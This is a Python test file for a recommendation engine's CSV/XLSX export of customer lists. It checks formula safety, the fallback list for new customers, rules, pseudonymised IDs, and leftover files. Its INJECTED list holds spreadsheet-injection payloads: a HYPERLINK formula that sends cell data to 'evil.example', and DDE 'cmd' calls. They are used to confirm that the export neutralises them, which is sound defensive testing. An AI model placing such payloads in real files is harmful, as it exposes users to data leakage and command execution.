"""engine.lists.export: every customer's list to CSV / XLSX — formula-safe, after rules, with the
new customers of a temporal split on a labelled fallback, pseudonymised on request, and never a
half-written or leftover file. Real models on the bundled demo data and crafted catalogs."""

import os
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from engine.data.catalog import ItemCatalog
from engine.errors import Cancelled, ValidationError
from engine.lists import inspector as I
from engine.lists.export import FALLBACK_LIST, MODEL_LIST, cold_customers, export_lists
from engine.lists.sheets import safe_text
from engine.progress import CancelToken
from engine.store.pseudonyms import Pseudonyms

REPO = Path(__file__).resolve().parents[3]
DEMO = REPO / "resources" / "demo" / "online_retail_demo.csv"
INJECTED = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "＝1+1", "=1+1"]


@pytest.fixture(scope="module")
def demo():
    from engine.data import open_dataset
    from engine.data.splits import split
    from engine.models.ease import EASE
    if not DEMO.exists():
        pytest.skip("resources/demo/online_retail_demo.csv is not present")
    ds = open_dataset(DEMO)
    frame = ds.catalog.frame.copy()
    frame["category"] = frame["Description"].astype(str).str.strip().str.split().str[-1]
    catalog = ItemCatalog(frame, {**ds.catalog.roles, "category": "category"})
    temporal = split(ds.interactions, "temporal", 0.2, seed=0)
    return {"catalog": catalog, "split": temporal, "ease": EASE().fit(temporal.train)}


def _read(path):
    if path.suffix == ".csv":
        return pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    return pd.read_excel(path, dtype=str, keep_default_na=False)


def test_csv_and_xlsx_hold_every_customers_list(demo, tmp_path):
    ease, cat = demo["ease"], demo["catalog"]
    seen = []
    rep = export_lists(ease, tmp_path / "top.csv", 10, cat, progress=seen.append)
    frame = _read(tmp_path / "top.csv")
    assert rep.rows == len(frame) == ease.n_users * 10 and rep.users == ease.n_users
    assert list(frame.columns) == ["user", "rank", "item", "title", "category", "price", "score", "list"]
    assert seen[-1].fraction == 1.0 and set(frame["list"]) == {MODEL_LIST}
    first = frame[frame["user"] == str(ease.user_ids_[0])]
    assert first["item"].tolist() == [str(i) for i in I.top_n(ease, int(ease.user_ids_[0]), 10, cat)["item"]]
    rep = export_lists(ease, tmp_path / "top.xlsx", 5, cat)
    book = _read(tmp_path / "top.xlsx")
    assert len(book) == rep.rows == ease.n_users * 5
    assert book["item"].tolist() == frame.groupby("user", sort=False).head(5)["item"].tolist()
    with pytest.raises(ValidationError, match="export to .csv or .xlsx"):
        export_lists(ease, tmp_path / "top.json", 10, cat)


def test_cancel_leaves_no_file(demo, tmp_path):
    token = CancelToken()
    token.cancel()
    with pytest.raises(Cancelled):
        export_lists(demo["ease"], tmp_path / "top.csv", 10, demo["catalog"], cancel=token)
    assert list(tmp_path.iterdir()) == []


def _hostile_catalog(model, demo_catalog):
    frame = demo_catalog.frame.copy()
    items = model.item_ids_
    frame.loc[frame.index.isin(items), "Description"] = [INJECTED[j % len(INJECTED)]
                                                         for j in range(frame.index.isin(items).sum())]
    return ItemCatalog(frame, demo_catalog.roles)


def test_csv_cells_a_spreadsheet_would_run_get_a_quote(demo, tmp_path):
    ease = demo["ease"]
    export_lists(ease, tmp_path / "top.csv", 10, _hostile_catalog(ease, demo["catalog"]))
    titles = _read(tmp_path / "top.csv")["title"]
    assert set(titles) == {"'" + t for t in INJECTED}
    for t in INJECTED:
        assert safe_text(t) == "'" + t
    assert safe_text("Mug, blue") == "Mug, blue" and safe_text("") == ""


def test_xlsx_text_is_text_never_a_formula(demo, tmp_path):
    import openpyxl
    ease = demo["ease"]
    export_lists(ease, tmp_path / "top.xlsx", 3, _hostile_catalog(ease, demo["catalog"]))
    with zipfile.ZipFile(tmp_path / "top.xlsx") as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")
    wb = openpyxl.load_workbook(tmp_path / "top.xlsx", data_only=False)
    ws = wb.active
    header = [c.value for c in next(ws.iter_rows(max_row=1))]
    col = header.index("title")
    cells = [row[col] for row in ws.iter_rows(min_row=2)]
    assert {c.data_type for c in cells} == {"s"}
    assert {c.value for c in cells} == set(INJECTED)  # the text exactly, nothing added or run


def test_control_characters_and_long_titles_do_not_break_the_workbook(demo, tmp_path):
    ease = demo["ease"]
    frame = demo["catalog"].frame.copy()
    frame["Description"] = pd.Series(["a\x01b\x0bc\ud800" + "x" * 40_000] * len(frame), index=frame.index,
                                     dtype=object)
    export_lists(ease, tmp_path / "top.xlsx", 2, ItemCatalog(frame, demo["catalog"].roles))
    titles = _read(tmp_path / "top.xlsx")["title"]
    assert titles.str.startswith("a\ufffdb\ufffdc\ufffd").all() and titles.str.len().max() == 32_767


def test_new_customers_get_the_labelled_fallback(demo, tmp_path):
    ease, test = demo["ease"], demo["split"].test
    customers = test.user_ids[np.unique(test.user_idx)]
    cold = cold_customers(ease, customers)
    assert len(cold) > 0, "a temporal split of the demo has new customers"
    rep = export_lists(ease, tmp_path / "top.csv", 10, demo["catalog"], customers=customers)
    frame = _read(tmp_path / "top.csv")
    fallback = frame[frame["list"] == FALLBACK_LIST]
    assert rep.fallback_users == len(cold) and fallback["user"].nunique() == len(cold)
    assert set(fallback["user"]) == {str(u) for u in cold}
    popular = np.argsort(-np.asarray(ease.seen_.sum(axis=0)).ravel(), kind="stable")[:10]
    first = fallback[fallback["user"] == str(cold[0])]
    assert first["item"].tolist() == [str(v) for v in ease.item_ids_[popular]]
    assert rep.rows == ease.n_users * 10 + len(cold) * 10


def test_active_rules_shape_every_exported_list(demo, tmp_path):
    ease, cat = demo["ease"], demo["catalog"]
    top = cat.frame.loc[cat.frame.index.isin(ease.item_ids_), "category"].value_counts().index[0]
    rules = {"rules": [{"type": "exclude_where", "column": "category", "op": "=", "value": top},
                       {"type": "max_per", "column": "category", "n": 2}]}
    rep = export_lists(ease, tmp_path / "top.csv", 10, cat, rules=rules, rules_name="no top category",
                       customers=demo["split"].test.user_ids)
    frame = _read(tmp_path / "top.csv")
    assert rep.rules == "no top category" and top not in set(frame["category"])
    assert frame.groupby(["user", "category"]).size().max() <= 2
    user = int(ease.user_ids_[7])
    after = I.rules_before_after(ease, user, 10, rules, cat).after
    assert frame[frame["user"] == str(user)]["item"].tolist() == [str(i) for i in after["item"]]
    assert top not in set(frame[frame["list"] == FALLBACK_LIST]["category"])


def test_pseudonymised_export_holds_no_original_customer_id(tmp_path):
    from engine.data import open_dataset
    from engine.models.popularity import MostPopular
    names = [f"Kundin Müller-{i:03d}" for i in range(40)]
    rows = [f"{names[i % 40]},sku-{(i * 7) % 25},1" for i in range(400)]
    (tmp_path / "orders.csv").write_text("customer,item,quantity\n" + "\n".join(rows) + "\n", encoding="utf-8")
    ds = open_dataset(tmp_path / "orders.csv")
    model = MostPopular().fit(ds.interactions)
    pseudo = Pseudonyms(b"k" * 32)
    out = tmp_path / "out"
    out.mkdir()
    for name in ("top.csv", "top.xlsx"):
        export_lists(model, out / name, 5, pseudonyms=pseudo)
    for path in out.iterdir():
        raw = path.read_bytes()
        if path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as z:
                raw = b"".join(z.read(n) for n in z.namelist())
        assert b"M\xc3\xbcller" not in raw and b"Kundin" not in raw, path.name
        users = set(_read(path)["user"])
        assert len(users) == 40 and all(u.startswith("c-") and len(u) == 18 for u in users)
        assert users == set(pseudo(names))


_SLOW_EXPORT = """
import sys, time
from engine.data import open_dataset
from engine.lists.export import export_lists
from engine.models.popularity import MostPopular
ds = open_dataset(sys.argv[1])
model = MostPopular().fit(ds.interactions)
real = model.recommend
def slow(users, k, **kw):
    time.sleep(0.05)  # a big catalog: each block takes a while
    return real(users, k, **kw)
model.recommend = slow
import engine.lists.export as E
E.BLOCK_FLOATS = model.n_items  # one customer per block
print("start", flush=True)
export_lists(model, sys.argv[2], 10, ds.catalog)
"""


@pytest.mark.skipif(not hasattr(signal, "SIGKILL"), reason="needs SIGKILL")
@pytest.mark.parametrize("name", ["top.csv", "top.xlsx"])
def test_a_killed_export_leaves_no_client_rows_behind(tmp_path, name):
    if not DEMO.exists():
        pytest.skip("demo data missing")
    out = tmp_path / "out"
    out.mkdir()
    proc = subprocess.Popen([sys.executable, "-c", _SLOW_EXPORT, str(DEMO), str(out / name)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            env=dict(os.environ, PYTHONPATH=str(REPO)))
    assert proc.stdout.readline().startswith("start"), proc.stderr.read()
    time.sleep(3.0)
    proc.send_signal(signal.SIGKILL)
    proc.communicate(timeout=60)
    assert list(out.iterdir()) == []
